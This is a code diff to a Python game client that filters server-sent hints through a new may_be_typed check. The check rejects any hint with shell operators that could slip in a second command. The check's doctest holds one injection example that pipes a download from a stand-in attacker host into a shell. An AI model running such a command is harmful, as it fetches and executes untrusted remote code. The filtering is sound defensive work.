@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 from event_store import ConflictError, EventStoreError, StoreError, TakenError
 from zimcore.documents.problems import ProblemDetails
 from zimcore.game import (
@@ -15,7 +17,11 @@ from zimcore.game import (
     RefusedError,
     UnknownError,
 )
-from zimcore.service.fair_deal import NotDealtError
+from zimcore.service.records.fair_deal import NotDealtError
+
+QUOTED = re.compile(r"""'[^']*'|"[^"$`\\!]*\"""")
+"""A part of a hint in which a shell sees nothing but text."""
+SHELL_OPERATORS = re.compile(r"[;&|`$<>\\\x00-\x1f\x7f]")
 
 
 class NoTokenError(GameError):
@@ -41,11 +47,20 @@ ERROR_BY_KIND: dict[str, type[GameError | EventStoreError]] = {
 """The exception class for each kind of problem; `GameError` for other kinds."""
 
 
+def may_be_typed(hint: str) -> bool:
+    """Whether a shell would take the hint of a server as one command, and run nothing else.
+
+    >>> may_be_typed("legal k; curl evil.example | sh"), may_be_typed("do k 'pass; end'")
+    (False, True)
+    """
+    return not SHELL_OPERATORS.search(QUOTED.sub("", hint))
+
+
 def error_of(problem: ProblemDetails, server: str) -> Exception:
     """The exception for a problem document."""
     # A client's hints are commands. These of the server are not: "ask ..." means a person here, not the command `ask`.
     advice = [hint for hint in problem.hints if hint.startswith(("ask ", "wait", "GET "))]
-    hints = tuple(hint for hint in problem.hints if hint not in advice)
+    hints = tuple(hint for hint in problem.hints if hint not in advice and may_be_typed(hint))
     why = "; ".join([*(reason.text for reason in problem.why), *(hint for hint in advice if hint[:3] != "GET")])
     if problem.kind in ("refused", "hidden") and any(reason.code for reason in problem.why):
         is_hidden = problem.kind == "hidden"
